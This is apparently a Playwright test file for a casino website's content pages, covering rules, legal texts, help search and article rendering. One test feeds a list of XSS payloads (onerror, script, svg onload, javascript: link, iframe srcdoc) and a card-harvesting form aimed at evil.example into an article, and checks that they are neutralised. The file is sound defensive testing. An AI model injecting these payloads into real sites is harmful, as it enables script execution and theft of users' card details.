import { success } from '../../support/api-answers.ts'
import { speak } from '../../support/language.ts'
import { expect, test } from '../../support/test.ts'
import { menuButton } from '../../support/drawer.ts'

const SETTING = '/sys/sysSetting/contactUsSetting'
const setting = (fields: object) => ({ body: success(fields) })

test('[SH-19] Withdrawal rules and Promotions show the article named by the setting', async ({
  page,
  member: _member,
  fault,
  baseURL,
}) => {
  await fault(
    SETTING,
    'envelope',
    setting({ withdrawRulePageUrl: `${baseURL}/#/article?id=1`, promotionPageUrl: `${baseURL}/#/article?id=2` }),
  )
  await page.goto('/')
  await page.getByRole('contentinfo').getByRole('link', { name: 'Withdrawal rules' }).click()
  const rules = page.getByRole('dialog', { name: 'Withdrawal rules' })
  await expect(rules.getByText('Double your first deposit')).toBeVisible()
  await page.keyboard.press('Escape')
  await menuButton(page).click()
  await page.getByRole('dialog').getByRole('button', { name: 'Cashout rules' }).click()
  await expect(rules.getByText('Double your first deposit')).toBeVisible()
  await page.keyboard.press('Escape')
  await menuButton(page).click()
  await page.getByRole('dialog').getByRole('button', { name: 'Promotions' }).click()
  await expect(page.getByRole('dialog', { name: 'Promotions' }).getByText(/Every \$\s10 you wager/)).toBeVisible()
})

test("[SH-19] the rules fall back to the site's own text without an article @desktop", async ({ page, fault }) => {
  await fault(SETTING, 'envelope', setting({ withdrawRulePageUrl: 'https://other.example/', promotionPageUrl: '' }))
  await page.goto('/')
  await page.getByRole('contentinfo').getByRole('link', { name: 'Withdrawal rules' }).click()
  await expect(
    page.getByRole('dialog', { name: 'Withdrawal rules' }).getByRole('heading', { level: 3 }).first(),
  ).toBeVisible()
  await page.keyboard.press('Escape')
  await page.getByRole('banner').getByRole('button', { name: 'Promotions' }).click()
  await expect(page.getByText('No promotions right now')).toBeVisible()
})

test("[SH-20] [SH-28] the long texts have a close control, sections, and the site's name and domain", async ({
  page,
}) => {
  await page.goto('/')
  const footer = page.getByRole('contentinfo')
  const sections = (name: string) => page.getByRole('dialog', { name }).getByRole('heading', { level: 3 })
  /** Expects no unfilled placeholder for a name, domain or address, then closes. */
  const close = async (name: string) => {
    await expect(page.getByRole('dialog', { name })).not.toContainText(/[{}]/)
    await page.getByRole('dialog', { name }).getByRole('button', { name: 'Close' }).click()
    await expect(page.getByRole('dialog', { name })).toBeHidden()
  }
  await footer.getByRole('link', { name: 'About us' }).click()
  await expect(page.getByRole('dialog', { name: 'About us' })).toContainText('Croupier')
  await close('About us')
  await footer.getByRole('link', { name: 'Privacy policy' }).click()
  await expect(sections('Privacy policy')).toHaveCount(5)
  await close('Privacy policy')
  await footer.getByRole('link', { name: 'Terms and conditions' }).click()
  const terms = page.getByRole('dialog', { name: 'Terms and conditions' })
  await expect(sections('Terms and conditions')).toHaveCount(3)
  await expect(terms).toContainText('croupier.example')
  await expect(terms).not.toContainText(/[{}]/)
  await terms.getByRole('button', { name: 'User agreement' }).first().click()
  await expect(sections('User agreement').first()).toBeVisible()
  await close('User agreement')
  await terms.getByRole('button', { name: 'Cookies policy' }).first().click()
  await expect(sections('Cookies policy').first()).toBeVisible()
  await close('Cookies policy')
})

test('[SH-20] Banking opens from the drawer', async ({ page, member: _member }) => {
  await page.goto('/')
  await menuButton(page).click()
  await page.getByRole('dialog').getByRole('button', { name: 'Banking' }).click()
  const banking = page.getByRole('dialog', { name: 'Banking' })
  await expect(banking).toBeVisible()
  await banking.getByRole('button', { name: 'Close' }).click()
  await expect(banking).toBeHidden()
})

test('[SH-21] an article keeps its colours, padding and linked pictures, and hostile HTML has no effect @desktop', async ({
  page,
  fault,
  watch,
}) => {
  // The security policy blocks what the hostile content tries while it is parsed, as it should.
  watch.allow(/inline event handler|inline style/)
  const content = `<p>Plain words</p><img src="/pictures/covers/koi-lantern.svg" link="/article?id=2" alt="Koi">
    <img src=x onerror="window.hacked=1"><script>window.hacked=2</script><svg onload="window.hacked=3"></svg>
    <a href="javascript:window.hacked=4">click</a><iframe srcdoc="<script>parent.hacked=5</script>"></iframe>
    <style>body{display:none}</style><form action="https://evil.example"><input name=card></form>`
  const article = { id: 1, content, backgroundColor: '#112233', fontColor: '#ffeedd', padding: '30px' }
  await fault('/base/article/get', 'envelope', { body: success(article) })
  await page.goto('/#/article?id=1')
  const text = page.getByText('Plain words')
  await expect(text).toBeVisible()
  const body = text.locator('..')
  await expect(body).toHaveCSS('background-color', 'rgb(17, 34, 51)')
  await expect(body).toHaveCSS('color', 'rgb(255, 238, 221)')
  await expect(body).toHaveCSS('padding-top', '30px')
  await expect(body.locator('script, iframe, style, form, input')).toHaveCount(0)
  await page.getByText('click').click()
  expect(await page.evaluate(() => (window as { hacked?: number }).hacked)).toBeUndefined()
  await page.getByRole('link', { name: 'Koi' }).click()
  await expect(page).toHaveURL(/#\/article\?id=2$/)
})

test('[SH-22] help search finds articles, each with a feedback widget that keeps the answer', async ({ page }) => {
  await page.goto('/#/branchIndex/help')
  await page.getByRole('searchbox', { name: 'Search the help articles' }).fill('passport')
  await expect(page.getByRole('link', { name: 'Verify your account' })).toBeVisible()
  await expect(page.getByRole('link', { name: 'Invite friends' })).toBeHidden()
  await page.getByRole('searchbox').fill('zzzzqqqq')
  await expect(page.getByText('Try another word, or ask us.')).toBeVisible()
  await page.goto('/#/branchIndex/help/verify-account')
  const feedback = page.getByRole('region', { name: 'Was this helpful?' })
  await feedback.getByRole('button', { name: 'Yes' }).click()
  await expect(feedback.getByText('Thank you for your feedback.')).toBeFocused()
  await page.reload()
  await expect(feedback.getByText('Thank you for your feedback.')).toBeVisible()
})

test('[SH-28] the texts name the minimums that the forms check, not those of the site config @desktop', async ({
  page,
  member: _member,
  fault,
}) => {
  const config = (minimumAmount: string) => ({ body: success({ minimumAmount }) })
  await fault('/sys/member/deposit/config', 'envelope', config('25'))
  await fault('/sys/member/withdraw/config', 'envelope', config('55'))
  await page.goto('/#/branchIndex/cashier/cashierInfo')
  await expect(page.getByText('The minimum is $ 25')).toBeVisible()
  await page.goto('/#/branchIndex/cashier/cashierInfo/withdrawalRules')
  await expect(page.getByRole('cell', { name: '$ 55' })).toBeVisible()
})

test('[SH-21] an article’s table breaks no word on a phone and scrolls instead @mobile', async ({ page }) => {
  await speak(page, 'de')
  await page.goto('/#/article?id=2')
  const head = page.getByRole('columnheader', { name: 'Freitagsbonus' })
  await expect(head).toBeVisible()
  const lines = await head.evaluate((cell) => {
    const range = document.createRange()
    range.selectNodeContents(cell)
    return range.getClientRects().length
  })
  expect(lines).toBe(1)
  const overflow = () => page.evaluate(() => document.documentElement.scrollWidth - innerWidth)
  expect(await overflow()).toBeLessThanOrEqual(0)
})
